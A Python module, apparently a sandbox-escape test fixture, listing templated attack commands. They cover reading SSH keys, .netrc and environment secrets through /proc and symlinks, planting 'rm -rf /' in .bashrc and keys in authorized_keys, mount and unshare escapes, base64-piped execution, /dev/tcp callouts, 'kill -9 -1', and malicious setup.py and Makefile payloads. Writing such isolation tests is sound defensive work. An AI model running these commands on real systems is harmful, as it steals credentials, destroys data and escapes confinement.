"""Commands that attack; names in braces are filled in by the place that is attacked."""

from __future__ import annotations

CONNECT = "{python} -c 'import socket; socket.create_connection((\"127.0.0.1\", {port}), 2)'"
UNIX = "{python} -c 'import socket; socket.socket(socket.AF_UNIX).connect(\"{agent}\")'"

COMMANDS = {
    "reads a key": "cat {home}/.ssh/id_rsa",
    "reads the logins": "cat {home}/.netrc",
    "reads a neighbour": "cat {near}/kept",
    "reads the record": "cat {record}",
    "reads through proc root": "cat /proc/1/root{home}/.ssh/id_rsa",
    "reads through a parent's root": "cat /proc/$PPID/root{home}/.ssh/id_rsa /proc/$PPID/environ",
    "reads through proc cwd": "cat /proc/*/cwd/../near/kept",
    "reads up the tree": "cat ../near/kept ../person/.netrc",
    "reads the environment": "env; cat /proc/self/environ /proc/1/environ",
    "searches for keys": "find / -xdev -name 'id_rsa*' -exec cat {{}} + 2>/dev/null | head -c 20000",
    "packs the home": "tar cf stolen.tar {home} {near}",
    "links to a key": "ln -s {home}/.ssh/id_rsa key; cat key; cp -L key stolen",
    "links a key hard": "ln {near}/kept stolen; cat stolen",
    "writes to the start files": "echo 'rm -rf /' >> {home}/.bashrc",
    "writes to the ssh folder": "mkdir -p {home}/.ssh; echo key >> {home}/.ssh/authorized_keys",
    "writes to git's settings": "git config --file {home}/.gitconfig core.hooksPath /w; echo x > {home}/.gitconfig",
    "writes a hook": "echo evil > {home}/.config/git/hooks/post-commit",
    "writes to a neighbour": "echo evil > {near}/kept",
    "removes a neighbour": "rm -rf {near}",
    "renames a neighbour": "mv {near} {near}.gone",
    "changes its mode": "chmod 777 {near} {near}/kept {home}/.ssh/id_rsa",
    "changes its time": "touch -d 2001-01-01 {near}/kept",
    "forges the record": "echo '{{}}' > {record}",
    "writes up the tree": "echo evil > ../near/kept; echo evil > ../person/.bashrc",
    "writes through a link": "ln -s {near} out; echo evil > out/kept; echo evil > out/new",
    "writes through proc": "echo evil > /proc/1/root{near}/kept; echo evil > /proc/$PPID/cwd/../near/kept",
    "mounts over it": "mount --bind / tmp; echo evil > tmp{near}/kept; mount -o remount,rw /",
    "makes a namespace of its own": "unshare -Urm sh -c 'mount -o remount,rw /; echo evil > {near}/kept'",
    "makes a device": "mknod disk b 8 0; mknod mem c 1 1; head -c 100 disk mem",
    "looks safe when quoted": "echo 'hello'\\''; cat {near}/kept; echo '\\'' done'; eval \"cat {near}/kept\"",
    "decodes what it runs": "echo Y2F0IC4uL25lYXIva2VwdA== | base64 -d | sh",
    "swaps while it is checked": "for i in 1 2 3 4 5 6 7 8 9; do ln -sfn {near} s; echo e > s/kept; ln -sfn . s; done",
    "calls out": CONNECT,
    "calls out from behind": f"setsid {CONNECT} & wait",
    "calls out by shell": "bash -c 'echo {home} > /dev/tcp/127.0.0.1/{port}'",
    "calls an agent": UNIX,
    "calls an abstract socket": UNIX.replace('"{agent}"', '"\\0{agent}"') + "; " + UNIX,
    "leaves a process": "nohup sleep 7321 >/dev/null 2>&1 &",
    "leaves a session": "setsid sh -c 'cd /; sleep 7321' >/dev/null 2>&1 &",
    "forks twice and forgets its cookie": "(env -i setsid sh -c 'sleep 7321 &' &) >/dev/null 2>&1",
    "forks many": "for i in $(seq 60); do setsid sleep 7321 >/dev/null 2>&1 & done",
    "ignores being stopped": "trap '' TERM INT HUP; (trap '' TERM; sleep 7321) >/dev/null 2>&1 & :",
    "kills whom it sees": "kill -9 -1",
    "traces its parent": (
        "{python} -c 'import ctypes,os; ctypes.CDLL(None).ptrace(16, os.getppid(), 0, 0)'; cat {near}/kept"
    ),
    "builds with code that attacks": (
        "printf 'from pathlib import Path\\nprint(Path(\"{near}/kept\").read_text())\\n' > setup.py; "
        "{python} setup.py build"
    ),
    "attacks when it is imported": (
        "printf 'import os\\nos.system(\"cat {near}/kept; echo e > {near}/kept\")\\n' > wrapper.py; "
        "{python} -c 'import sys; sys.path.insert(0, \".\"); import wrapper'"
    ),
    "attacks when make reads": (
        "printf 'X := $(shell cat {near}/kept; rm {near}/kept)\\nall:\\n\\techo $X\\n' > Makefile; make"
    ),
}
